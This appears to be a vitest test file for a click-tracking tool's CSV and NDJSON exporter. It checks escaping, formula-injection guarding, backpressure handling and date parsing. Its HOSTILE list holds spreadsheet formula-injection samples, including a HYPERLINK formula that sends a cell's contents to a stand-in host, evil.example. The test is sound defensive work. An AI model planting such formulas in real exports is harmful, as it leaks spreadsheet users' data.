import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { writeExport } from '../../../src/export/index.js';
import { csvField, csvRecord } from '../../../src/export/csv.js';
import { EXPORT_COLUMNS, exportLine, type ExportSink } from '../../../src/export/export.js';
import { parseTimeBound } from '../../../src/export/export-range.js';
import type { StoredRow } from '../../../src/outbox/index.js';
import { clickColumns } from '../../../src/outbox/columns.js';
import { parseCsv, unguard } from '../audit/csv-parse.js';
import { storedClick } from '../audit/helpers.js';

const HOSTILE = [
  '=HYPERLINK("https://evil.example/?d="&A1,"click me")',
  '+1+2',
  '-2+3',
  '@SUM(1,2)',
  '\t=1',
  '\r=1',
  "'already quoted",
  'comma, inside',
  'a "quoted" word',
  'line one\nline two',
  'crlf\r\nnext',
  '',
  'plain',
];

describe('CSV fields', () => {
  it('guards every value a spreadsheet would run as a formula', () => {
    for (const v of ['=1+1', '+1', '-1', '@x', '\tx', '\rx']) expect(csvField(v).replace(/^"/, '')).toMatch(/^'/);
    expect(csvField('plain text')).toBe('plain text');
    expect(csvField('203.0.113.0')).toBe('203.0.113.0');
  });

  it('quotes commas, quotes and newlines (RFC 4180) and ends records with CRLF', () => {
    expect(csvRecord(['a,b', 'say "hi"', 'x\ny', null])).toBe('"a,b","say ""hi""","x\ny",\r\n');
  });

  it('parses back to the original values, hostile ones included', () => {
    const text = HOSTILE.map((v) => csvRecord([v, 'x'])).join('');
    expect(parseCsv(text).map((r) => unguard(r[0]!))).toEqual(HOSTILE);
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'binary' }), { minLength: 1, maxLength: 6 }), (values) => {
        const back = parseCsv(csvRecord(values))[0]!.map(unguard);
        expect(back).toEqual(values);
      }),
    );
  });
});

describe('export lines', () => {
  const row = (over: Partial<ReturnType<typeof storedClick>> = {}, state: StoredRow['state'] = 'shipped'): StoredRow => {
    const c = { ...storedClick(), ...over };
    return { seq: 1, chain_hash: 'h', state, shipped_at: state === 'shipped' ? '2025-08-01T00:00:00.000Z' : null, columns: clickColumns(c) };
  };

  it('has the guide\'s link_clicks columns, anonymous, state and shipped_at', () => {
    expect(EXPORT_COLUMNS).toEqual(['click_id', 'tracking_id', 'clicked_at', 'ip_address', 'user_agent', 'referrer_url', 'session_id', 'click_source', 'metadata', 'anonymous', 'state', 'shipped_at', 'visitor', 'scanner', 'country']);
  });

  it('writes one JSON object per line with metadata as an object and anonymous as a boolean', () => {
    const r = row({ metadata: { utm_source: 'a\nb' } });
    const line = exportLine(r, 'ndjson');
    expect(line.endsWith('\n')).toBe(true);
    expect(line.slice(0, -1)).not.toContain('\n');
    expect(JSON.parse(line)).toMatchObject({ click_id: r.columns[0], metadata: { utm_source: 'a\nb' }, anonymous: false, state: 'shipped', shipped_at: '2025-08-01T00:00:00.000Z' });
  });

  it('exports metadata that is not JSON (edited by hand) as its text instead of failing', () => {
    const r = row();
    const broken: StoredRow = { ...r, columns: [...r.columns.slice(0, 8), 'not json', 0] as unknown as StoredRow['columns'] };
    expect(JSON.parse(exportLine(broken, 'ndjson')).metadata).toBe('not json');
    expect(parseCsv(exportLine(broken, 'csv'))[0]![8]).toBe('not json');
  });
});

describe('writeExport', () => {
  /** A sink that accepts `limit` chars before asking the writer to wait, like a slow pipe. */
  function slowSink(limit: number) {
    const listeners = new Map<string, Set<(e?: Error) => void>>();
    let buffered = 0;
    let maxBuffered = 0;
    const chunks: string[] = [];
    const sink: ExportSink & { chunks: string[]; maxBuffered: () => number; drainSoon(): void } = {
      chunks,
      maxBuffered: () => maxBuffered,
      write(chunk) {
        chunks.push(chunk);
        buffered += chunk.length;
        maxBuffered = Math.max(maxBuffered, buffered);
        if (buffered < limit) return true;
        sink.drainSoon();
        return false;
      },
      drainSoon() {
        // A slow output device: it drains a moment later, as a pipe to a slow reader does.
        setTimeout(() => {
          buffered = 0;
          for (const l of [...(listeners.get('drain') ?? [])]) l();
        }, 1);
      },
      on(ev, l) {
        if (!listeners.has(ev)) listeners.set(ev, new Set());
        listeners.get(ev)!.add(l);
      },
      off(ev, l) {
        listeners.get(ev)?.delete(l);
      },
    };
    return { sink, listeners };
  }

  function* rows(n: number): Generator<StoredRow> {
    const c = storedClick();
    for (let i = 0; i < n; i++) yield { seq: i + 1, chain_hash: 'h', state: 'pending', shipped_at: null, columns: clickColumns({ ...c, click_id: `c${i}` }) };
  }

  it('waits for drain instead of buffering when the consumer is slow', async () => {
    const { sink } = slowSink(100_000);
    const r = await writeExport(rows(20_000), 'csv', sink);
    expect(r).toEqual({ rows: 20_000, error: null });
    expect(sink.maxBuffered()).toBeLessThan(100_000 + 70_000); // never more than one chunk past the limit
    const parsed = parseCsv(sink.chunks.join(''));
    expect(parsed).toHaveLength(20_001);
    expect(parsed[20_000]![0]).toBe('c19999');
  });

  it('stops at the first output error and says so', async () => {
    const { sink, listeners } = slowSink(1);
    sink.drainSoon = () => setTimeout(() => listeners.get('error')?.forEach((l) => l(Object.assign(new Error('EPIPE'), { code: 'EPIPE' }))), 1);
    const r = await writeExport(rows(50_000), 'ndjson', sink);
    expect(r.error?.message).toBe('EPIPE');
    expect(r.rows).toBeLessThan(50_000);
  });
});

describe('--since / --until', () => {
  it('normalises dates and times to the stored form, UTC unless a zone is given', () => {
    expect(parseTimeBound('2025-07-27')).toBe('2025-07-27T00:00:00.000Z');
    expect(parseTimeBound('2025-07-27T21:00')).toBe('2025-07-27T21:00:00.000Z');
    expect(parseTimeBound('2025-07-27T21:00:00Z')).toBe('2025-07-27T21:00:00.000Z');
    expect(parseTimeBound('2025-07-27T23:30:00+02:00')).toBe('2025-07-27T21:30:00.000Z');
    expect(parseTimeBound('2025-07-27T21:00:00.123456Z')).toBe('2025-07-27T21:00:00.123Z');
  });

  it('refuses what is not an ISO 8601 date or time', () => {
    for (const bad of ['yesterday', '27/07/2025', '2025-02-30', '2025-13-01', '', '1722114000', '2025-07-27T25:00Z']) expect(parseTimeBound(bad)).toBeNull();
  });
});
